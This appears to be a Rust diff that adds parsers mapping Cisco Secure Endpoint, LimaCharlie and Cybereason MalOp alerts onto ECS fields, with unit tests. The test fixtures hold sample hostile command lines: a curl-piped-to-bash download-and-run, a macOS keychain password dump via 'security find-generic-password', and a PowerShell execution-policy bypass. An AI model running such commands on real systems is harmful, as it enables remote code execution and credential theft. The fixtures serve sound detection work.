@@ -1,5 +1,6 @@
 //! More endpoint products' alert shapes, mapped onto ECS with the same helpers as `edr`:
-//! Trellix (FireEye) HX alerts, Uptycs alerts, Cybereason process queries, Carbon Black EDR
+//! Trellix (FireEye) HX alerts, Uptycs alerts, Cisco Secure Endpoint events, LimaCharlie
+//! detections, Cybereason process queries, Carbon Black EDR
 //! (Response) forwarder events, Aqua Tracee events, Wazuh file-integrity alerts of files
 //! that run commands, and Prisma Cloud (Twistlock) runtime audits. Each adapter recognises its shape by fields no other shape has
 //! together and returns `None` otherwise.
@@ -211,6 +212,331 @@ pub(super) fn uptycs(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Opti
     Some((e, id))
 }
 
+/// Cisco Secure Endpoint (AMP for Endpoints) events (`/v1/events`: `event_type`, `connector_guid`,
+/// `computer` {`hostname`, `user` as `name@domain`, `network_addresses`}, `file` {`file_name`,
+/// `file_path`, `identity` hashes, `parent` {`process_id`, `file_name`, `file_path`}},
+/// `command_line.arguments`, `network_info` {`remote_ip`, `remote_port`, `dirty_url`},
+/// `cloud_ioc`, `attack_details.indicators[].mitre_techniques`). Paths come as `\\?\C:\…` or
+/// `/C:/…` on Windows.
+pub(super) fn cisco_secure_endpoint(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    let computer = obj.get("computer")?.as_object()?;
+    mtext(obj, "connector_guid").or_else(|| mtext(computer, "connector_guid"))?;
+    mtext(obj, "event_type")?;
+    let file = obj.get("file").and_then(Json::as_object);
+    let cmd = obj
+        .get("command_line")
+        .and_then(|c| text(c, "arguments"))
+        .filter(|c| !c.trim().is_empty());
+    if file.is_none() && cmd.is_none() {
+        return None;
+    }
+    let path = |f: &Map<String, Json>| {
+        mtext(f, "file_path").map(|p| {
+            let p = p.strip_prefix("\\\\?\\").unwrap_or(p);
+            match p.strip_prefix('/') {
+                // `/C:/Windows/…`
+                Some(rest) if rest.as_bytes().get(1) == Some(&b':') => rest.replace('/', "\\"),
+                _ => p.to_owned(),
+            }
+        })
+    };
+    let mut e = Map::new();
+    let mut windows = false;
+    let mut node = file;
+    for (prefix, cmd) in [
+        ("process", cmd),
+        ("process.parent", None),
+        ("process.parent.parent", None),
+    ] {
+        let Some(f) = node else { break };
+        let p = path(f);
+        windows |= p.as_deref().is_some_and(|p| p.contains(":\\"));
+        let cmd = cmd.or_else(|| mtext(f, "command_line"));
+        put_process(&mut e, prefix, p.clone(), cmd);
+        if p.is_none()
+            && let Some(n) = mtext(f, "file_name")
+        {
+            set_path(&mut e, &format!("{prefix}.name"), s(n));
+        }
+        for h in ["sha256", "sha1", "md5"] {
+            if let Some(v) = f.get("identity").and_then(|i| text(i, h)) {
+                set_path(&mut e, &format!("{prefix}.hash.{h}"), s(v));
+            }
+        }
+        node = f
+            .get("parent")
+            .or_else(|| f.get("grandparent"))
+            .and_then(Json::as_object);
+    }
+    if let Some(pid) = file
+        .and_then(|f| f.get("parent"))
+        .and_then(|p| p.get("process_id"))
+        .and_then(Json::as_i64)
+    {
+        set_path(&mut e, "process.parent.pid", Json::from(pid));
+    }
+    if let Some(pid) = obj.get("process_id").and_then(Json::as_i64) {
+        set_path(&mut e, "process.pid", Json::from(pid));
+    }
+    if let Some(h) = mtext(computer, "hostname") {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(ip) = computer
+        .get("network_addresses")
+        .and_then(Json::as_array)
+        .and_then(|a| text(a.first()?, "ip"))
+    {
+        set_path(&mut e, "host.ip", s(ip));
+    }
+    // `jdoe@WS-1`, `SYSTEM@NT AUTHORITY`.
+    if let Some(u) = mtext(computer, "user") {
+        match u.rsplit_once('@') {
+            Some((n, d)) if !n.is_empty() => {
+                set_path(&mut e, "user.name", s(n));
+                set_path(&mut e, "user.domain", s(d));
+            }
+            _ => set_user(&mut e, u),
+        }
+    }
+    let os = mtext(obj, "os").map(str::to_ascii_lowercase);
+    let exe = e
+        .get("process")
+        .and_then(|p| text(p, "executable"))
+        .unwrap_or("");
+    let os = match os.as_deref() {
+        Some(o) if o.contains("windows") => "windows",
+        Some(o) if o.contains("mac") || o.contains("os x") => "macos",
+        Some(_) => "linux",
+        None if windows => "windows",
+        None if [
+            "/Applications/",
+            "/Volumes/",
+            "/Users/",
+            "/System/",
+            "/Library/",
+            "/private/",
+        ]
+        .iter()
+        .any(|d| exe.starts_with(d)) =>
+        {
+            "macos"
+        }
+        None if exe.starts_with('/') => "linux",
+        None => "",
+    };
+    if !os.is_empty() {
+        set_path(&mut e, "host.os.type", s(os));
+    }
+    if let Some(n) = obj.get("network_info").and_then(Json::as_object) {
+        if let Some(ip) = mtext(n, "remote_ip") {
+            set_path(&mut e, "destination.ip", s(ip));
+        }
+        if let Some(p) = n.get("remote_port").and_then(Json::as_i64) {
+            set_path(&mut e, "destination.port", Json::from(p));
+        }
+        if let Some(d) = mtext(n, "domain") {
+            set_path(&mut e, "destination.domain", s(d));
+        }
+        if let Some(u) = mtext(n, "dirty_url") {
+            set_path(&mut e, "url.full", s(u));
+        }
+    }
+    let ioc = obj.get("cloud_ioc");
+    if let Some(r) = mtext(obj, "detection")
+        .filter(|d| !d.is_empty())
+        .or_else(|| ioc.and_then(|i| text(i, "short_description")))
+        .or_else(|| mtext(obj, "event_type"))
+    {
+        set_path(&mut e, "rule.name", s(r));
+    }
+    if let Some(d) = ioc.and_then(|i| text(i, "description")) {
+        set_path(&mut e, "rule.description", s(d));
+    }
+    let techniques: Vec<&str> = obj
+        .get("attack_details")
+        .and_then(|a| a.get("indicators"))
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(|i| i.get("mitre_techniques")?.as_array())
+        .flatten()
+        .filter_map(Json::as_str)
+        .collect();
+    set_techniques(&mut e, &techniques);
+    if let Some(t) = mtext(obj, "date") {
+        e.insert("@timestamp".into(), s(t));
+    }
+    let id = obj.get("id").map(|v| match v {
+        Json::String(s) => s.clone(),
+        other => other.to_string(),
+    });
+    finish(
+        &mut e,
+        "cisco-secure-endpoint",
+        "cisco_secure_endpoint",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
+/// LimaCharlie detections (`detect`: the event that matched, its `routing` — `hostname`,
+/// `int_ip`, `plat` — and the rule's `cat` and `detect_mtd.tags`) and raw LimaCharlie EDR
+/// events (`event` + `routing` at the top). A `NEW_PROCESS` event names the process
+/// (`FILE_PATH`, `COMMAND_LINE`, `PROCESS_ID`, `USER_NAME`, `HASH`), its `PARENT` (with the
+/// grandparent's `PARENT_FILE_PATH`) and its `NETWORK_ACTIVITY`.
+pub(super) fn limacharlie(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    let detect = obj.get("detect").and_then(Json::as_object).unwrap_or(obj);
+    let ev = detect.get("event")?.as_object()?;
+    // The detection's own routing, then the envelope's (a detection repeats part of it).
+    let routings: Vec<&Map<String, Json>> = [detect.get("routing"), obj.get("routing")]
+        .into_iter()
+        .flatten()
+        .filter_map(Json::as_object)
+        .collect();
+    let route = |k: &str| {
+        routings
+            .iter()
+            .find_map(|r| r.get(k).filter(|v| !v.is_null()))
+    };
+    route("event_type")?;
+    let exe = mtext(ev, "FILE_PATH");
+    let cmd = mtext(ev, "COMMAND_LINE");
+    if exe.is_none() && cmd.is_none() {
+        return None;
+    }
+    let mut e = Map::new();
+    // What the process started, where the detection lists it, as branches of its command line.
+    let children: Vec<&str> = ev
+        .get("CHILDREN")
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(|c| text(c, "COMMAND_LINE"))
+        .collect();
+    put_process(
+        &mut e,
+        "process",
+        exe.map(str::to_owned),
+        with_branches(cmd, children).as_deref(),
+    );
+    let parent = ev.get("PARENT").and_then(Json::as_object);
+    if let Some(p) = parent {
+        put_process(
+            &mut e,
+            "process.parent",
+            mtext(p, "FILE_PATH").map(str::to_owned),
+            mtext(p, "COMMAND_LINE"),
+        );
+        put_process(
+            &mut e,
+            "process.parent.parent",
+            mtext(p, "PARENT_FILE_PATH").map(str::to_owned),
+            mtext(p, "PARENT_COMMAND_LINE"),
+        );
+        if let Some(pid) = p.get("PROCESS_ID").and_then(Json::as_i64) {
+            set_path(&mut e, "process.parent.pid", Json::from(pid));
+        }
+    }
+    if let Some(g) = ev.get("GRANDPARENT").and_then(Json::as_object) {
+        put_process(
+            &mut e,
+            "process.parent.parent",
+            mtext(g, "FILE_PATH").map(str::to_owned),
+            mtext(g, "COMMAND_LINE"),
+        );
+    }
+    if let Some(pid) = ev.get("PROCESS_ID").and_then(Json::as_i64) {
+        set_path(&mut e, "process.pid", Json::from(pid));
+    }
+    if let Some(h) = mtext(ev, "HASH") {
+        set_path(&mut e, "process.hash.sha256", s(h));
+    }
+    if let Some(u) = mtext(ev, "USER_NAME").or_else(|| parent.and_then(|p| mtext(p, "USER_NAME"))) {
+        set_user(&mut e, u);
+    }
+    if let Some(id) = ev.get("USER_ID").and_then(Json::as_i64) {
+        set_path(&mut e, "user.id", s(&id.to_string()));
+    }
+    // Windows' mandatory label RIDs.
+    if let Some(l) = ev.get("INTEGRITY_LEVEL").and_then(Json::as_i64) {
+        let level = match l {
+            0x1000 => "Low",
+            0x2000 => "Medium",
+            0x3000 => "High",
+            0x4000 => "System",
+            _ => "",
+        };
+        if !level.is_empty() {
+            set_path(&mut e, "process.integrity_level", s(level));
+        }
+    }
+    if let Some(n) = ev
+        .get("NETWORK_ACTIVITY")
+        .and_then(Json::as_array)
+        .and_then(|a| a.first())
+    {
+        if let Some(d) = n.get("DESTINATION") {
+            if let Some(ip) = text(d, "IP_ADDRESS") {
+                set_path(&mut e, "destination.ip", s(ip));
+            }
+            if let Some(p) = d.get("PORT").and_then(Json::as_i64) {
+                set_path(&mut e, "destination.port", Json::from(p));
+            }
+        }
+        if let Some(d) = text(n, "DOMAIN") {
+            set_path(&mut e, "destination.domain", s(d));
+        }
+    }
+    if let Some(h) = route("hostname").and_then(Json::as_str) {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(ip) = route("int_ip").and_then(Json::as_str) {
+        set_path(&mut e, "host.ip", s(ip));
+    }
+    // The platform's high byte: 0x10 Windows, 0x20 Linux, 0x30 macOS.
+    let os = match route("plat").and_then(Json::as_i64).map(|p| p >> 24) {
+        Some(0x10) => "windows",
+        Some(0x20) => "linux",
+        Some(0x30) => "macos",
+        _ => "",
+    };
+    if !os.is_empty() {
+        set_path(&mut e, "host.os.type", s(os));
+    }
+    if let Some(c) = mtext(obj, "cat") {
+        set_path(&mut e, "rule.name", s(c));
+    }
+    let tags: Vec<String> = obj
+        .get("detect_mtd")
+        .and_then(|m| m.get("tags"))
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(Json::as_str)
+        .filter_map(|t| t.strip_prefix("attack."))
+        .map(str::to_ascii_uppercase)
+        .collect();
+    set_techniques(&mut e, &tags.iter().map(String::as_str).collect::<Vec<_>>());
+    if let Some(t) = route("event_time")
+        .and_then(Json::as_i64)
+        .and_then(chrono::DateTime::from_timestamp_millis)
+    {
+        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
+    }
+    let id = mtext(obj, "detect_id")
+        .or_else(|| route("event_id").and_then(Json::as_str))
+        .map(str::to_owned);
+    finish(
+        &mut e,
+        "limacharlie",
+        "limacharlie",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
 /// Cybereason process queries (`/rest/visualsearch/query/simple`, and a MalOp's processes):
 /// `data.resultIdToElementDataMap` holds each process by guid, with `simpleValues` (each a
 /// list under `values`: `elementDisplayName`, `commandLine`, `pid`, `imageFile.*`) and
@@ -242,10 +568,10 @@ pub(super) fn cybereason(obj: &Map<String, Json>) -> Option<(Map<String, Json>, 
         results.insert(guid, Json::Object(obj.clone()));
         return as_query(results);
     }
-    let results = obj
-        .get("data")?
-        .get("resultIdToElementDataMap")?
-        .as_object()?;
+    // A query's results, or a MalOp inbox model's processes (`malopProcesses`).
+    let results = ["data", "malopProcesses"]
+        .iter()
+        .find_map(|k| obj.get(*k)?.get("resultIdToElementDataMap")?.as_object())?;
     // A Malop names its root-cause processes inside it (`elementValues.primaryRootCauseElements`):
     // they are read as a process query's results.
     let roots: Map<String, Json> = results
@@ -374,6 +700,31 @@ pub(super) fn cybereason(obj: &Map<String, Json>) -> Option<(Map<String, Json>, 
             }
         }
     }
+    // A MalOp's process carries its parent's command line and its grandparent's name as its
+    // own keys.
+    for (k, path) in [
+        ("parentCommandLine", "process.parent.command_line"),
+        ("grandParentProcess", "process.parent.parent.name"),
+    ] {
+        let have = path
+            .split('.')
+            .try_fold(&e, |m, p| m.get(p)?.as_object())
+            .is_some();
+        if let Some(v) = me.as_object().and_then(|m| mtext(m, k)).filter(|_| !have) {
+            set_path(&mut e, path, s(v));
+        }
+    }
+    // Where the process connected (`address:port`).
+    if let Some(a) = simple(me, "connections.remoteAddress") {
+        let (ip, port) = match a.rsplit_once(':') {
+            Some((ip, p)) if !ip.contains(':') => (ip, p.parse::<u16>().ok()),
+            _ => (a.as_str(), None),
+        };
+        set_path(&mut e, "destination.ip", s(ip));
+        if let Some(p) = port {
+            set_path(&mut e, "destination.port", Json::from(p));
+        }
+    }
     if let Some(pid) = simple(me, "pid").and_then(|p| p.parse::<i64>().ok()) {
         set_path(&mut e, "process.pid", Json::from(pid));
     }
@@ -391,7 +742,35 @@ pub(super) fn cybereason(obj: &Map<String, Json>) -> Option<(Map<String, Json>, 
     if let Some((_, Some(h))) = related(me, "ownerMachine") {
         set_path(&mut e, "host.name", s(&h));
     }
-    if let Some(os) = related_el(me, "ownerMachine").and_then(|m| simple(m, "osType")) {
+    // The MalOp names its machines and users at the top.
+    let top = |list: &str, k: &str| {
+        obj.get(list)?
+            .as_array()?
+            .first()
+            .and_then(|m| text(m, k))
+            .map(str::to_owned)
+    };
+    if e.get("host").is_none()
+        && let Some(h) = top("machines", "displayName")
+    {
+        set_path(&mut e, "host.name", s(&h));
+    }
+    if e.get("user").is_none()
+        && let Some(u) = top("users", "displayName")
+    {
+        set_user(&mut e, &u);
+    }
+    if let Some(d) = obj
+        .get("detectionTypes")
+        .and_then(Json::as_array)
+        .and_then(|d| d.first()?.as_str())
+    {
+        set_path(&mut e, "rule.name", s(d));
+    }
+    if let Some(os) = related_el(me, "ownerMachine")
+        .and_then(|m| simple(m, "osType"))
+        .or_else(|| top("machines", "osType"))
+    {
         let os = match os.to_ascii_lowercase().as_str() {
             "osx" | "macos" | "mac_os" => "macos",
             "linux" => "linux",
@@ -1172,7 +1551,125 @@ mod tests {
         assert_eq!(str_at(&e, "host.name"), "hb-acct-ws07");
         assert_eq!(get(&e, "process.pid"), Some(&json!(7316)));
         assert!(cybereason(json!({"data": {"x": 1}}).as_object().unwrap()).is_none());
+        // A MalOp inbox model: its machines and users at the top, the process's parent command
+        // line, grandparent and connection as the process's own keys.
+        let m = json!({"detectionTypes": ["Suspicious shell command obfuscation"],
+            "machines": [{"displayName": "MBP-1", "osType": "OSX"}], "users": [{"displayName": "ak"}],
+            "malopProcesses": {"resultIdToElementDataMap": {"p.1": {
+                "simpleValues": {"commandLine": {"values": ["bash"]}, "imageFile.correctedPath": {"values": ["/bin/bash"]},
+                    "connections.remoteAddress": {"values": ["195.211.97.14:80"]}},
+                "elementValues": {"parentProcess": {"elementValues": [{"guid": "z", "name": "zsh"}]}},
+                "parentCommandLine": "/bin/zsh -c curl -fsSL x | bash", "grandParentProcess": "Terminal"}}}});
+        let (e, _) = cybereason(m.as_object().unwrap()).unwrap();
+        assert_eq!(
+            str_at(&e, "process.parent.command_line"),
+            "/bin/zsh -c curl -fsSL x | bash"
+        );
+        assert_eq!(str_at(&e, "process.parent.parent.name"), "Terminal");
+        assert_eq!(str_at(&e, "host.name"), "MBP-1");
+        assert_eq!(str_at(&e, "host.os.type"), "macos");
+        assert_eq!(str_at(&e, "user.name"), "ak");
+        assert_eq!(str_at(&e, "destination.ip"), "195.211.97.14");
+        assert_eq!(get(&e, "destination.port"), Some(&json!(80)));
+        assert_eq!(
+            str_at(&e, "rule.name"),
+            "Suspicious shell command obfuscation"
+        );
     }
+    #[test]
+    fn cisco_secure_endpoint_events() {
+        let a = json!({"id": 6977269180156218302u64, "date": "2025-11-05T15:48:31+00:00", "event_type": "Cloud IOC",
+            "connector_guid": "c6", "computer": {"connector_guid": "c6", "hostname": "WKS-1.corp", "user": "SYSTEM@NT AUTHORITY",
+                "network_addresses": [{"ip": "10.1.2.3"}]},
+            "file": {"file_name": "powershell.exe", "file_path": "\\\\?\\C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "identity": {"sha256": "c5cf"}, "parent": {"process_id": 4120, "file_name": "CcmExec.exe", "file_path": "/C:/Windows/CCM/CcmExec.exe"}},
+            "command_line": {"arguments": "powershell.exe -NoLogo -ExecutionPolicy Bypass"},
+            "network_info": {"remote_ip": "203.0.113.9", "remote_port": 443, "dirty_url": "http://203.0.113.9/a"},
+            "cloud_ioc": {"short_description": "W32.PowerShellExecutionPolicyBypass.ioc", "description": "PowerShell bypass"},
+            "attack_details": {"indicators": [{"mitre_techniques": ["T1059.001"]}]}});
+        let (e, id) = cisco_secure_endpoint(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("6977269180156218302"));
+        assert_eq!(
+            str_at(&e, "process.executable"),
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+        );
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "powershell.exe -NoLogo -ExecutionPolicy Bypass"
+        );
+        assert_eq!(
+            str_at(&e, "process.parent.executable"),
+            "C:\\Windows\\CCM\\CcmExec.exe"
+        );
+        assert_eq!(get(&e, "process.parent.pid"), Some(&json!(4120)));
+        assert_eq!(str_at(&e, "process.hash.sha256"), "c5cf");
+        assert_eq!(str_at(&e, "user.name"), "SYSTEM");
+        assert_eq!(str_at(&e, "user.domain"), "NT AUTHORITY");
+        assert_eq!(str_at(&e, "host.name"), "WKS-1.corp");
+        assert_eq!(str_at(&e, "host.os.type"), "windows");
+        assert_eq!(str_at(&e, "destination.ip"), "203.0.113.9");
+        assert_eq!(str_at(&e, "url.full"), "http://203.0.113.9/a");
+        assert_eq!(
+            str_at(&e, "rule.name"),
+            "W32.PowerShellExecutionPolicyBypass.ioc"
+        );
+        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.001"]));
+        // A macOS program by its path, with no `os` field.
+        let m = json!({"event_type": "Cloud IOC", "connector_guid": "c7", "computer": {"hostname": "MBA-1", "user": "jt@MBA-1"},
+            "file": {"file_name": "osascript", "file_path": "/usr/bin/osascript",
+                "parent": {"file_name": "Setup", "file_path": "/Volumes/Setup/Setup.app/Contents/MacOS/Setup"}},
+            "command_line": {"arguments": "osascript -e 'display dialog'"}, "os": "macOS 15.1"});
+        let (e, _) = cisco_secure_endpoint(m.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "host.os.type"), "macos");
+        assert_eq!(str_at(&e, "user.name"), "jt");
+        assert_eq!(str_at(&e, "process.parent.name"), "Setup");
+        assert!(
+            cisco_secure_endpoint(
+                json!({"event_type": "x", "computer": {}})
+                    .as_object()
+                    .unwrap()
+            )
+            .is_none()
+        );
+    }
+
+    #[test]
+    fn limacharlie_detections() {
+        let d = json!({"cat": "Keychain access by script", "detect_id": "d-1",
+            "detect_mtd": {"tags": ["attack.credential_access", "attack.t1555.001"]},
+            "routing": {"hostname": "mbp-1", "plat": 805306368, "event_type": "NEW_PROCESS", "int_ip": "10.4.4.4", "event_time": 1760448771902u64},
+            "detect": {"event": {"FILE_PATH": "/usr/bin/security", "COMMAND_LINE": "security find-generic-password -wa x",
+                "PROCESS_ID": 52817, "USER_NAME": "lk", "USER_ID": 501, "HASH": "4f6c",
+                "PARENT": {"FILE_PATH": "/bin/bash", "COMMAND_LINE": "/bin/bash /Users/lk/.cs/u.sh", "PROCESS_ID": 52790,
+                    "PARENT_FILE_PATH": "/usr/bin/osascript"},
+                "NETWORK_ACTIVITY": [{"DESTINATION": {"IP_ADDRESS": "198.51.100.7", "PORT": 8443}}]},
+                "routing": {"hostname": "mbp-1", "event_type": "NEW_PROCESS"}}});
+        let (e, id) = limacharlie(d.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("d-1"));
+        assert_eq!(str_at(&e, "process.executable"), "/usr/bin/security");
+        assert_eq!(
+            str_at(&e, "process.parent.command_line"),
+            "/bin/bash /Users/lk/.cs/u.sh"
+        );
+        assert_eq!(str_at(&e, "process.parent.parent.name"), "osascript");
+        assert_eq!(str_at(&e, "user.name"), "lk");
+        assert_eq!(str_at(&e, "user.id"), "501");
+        // The platform from the envelope's routing when the detection's own omits it.
+        assert_eq!(str_at(&e, "host.os.type"), "macos");
+        assert_eq!(str_at(&e, "host.ip"), "10.4.4.4");
+        assert_eq!(str_at(&e, "destination.ip"), "198.51.100.7");
+        assert_eq!(str_at(&e, "rule.name"), "Keychain access by script");
+        assert_eq!(e["threat"]["technique"]["id"], json!(["T1555.001"]));
+        assert!(
+            limacharlie(
+                json!({"detect": {"event": {"X": 1}}, "routing": {"event_type": "NEW_PROCESS"}})
+                    .as_object()
+                    .unwrap()
+            )
+            .is_none()
+        );
+    }
+
     #[test]
     fn carbon_black_edr_forwarder_events() {
         let a = json!({
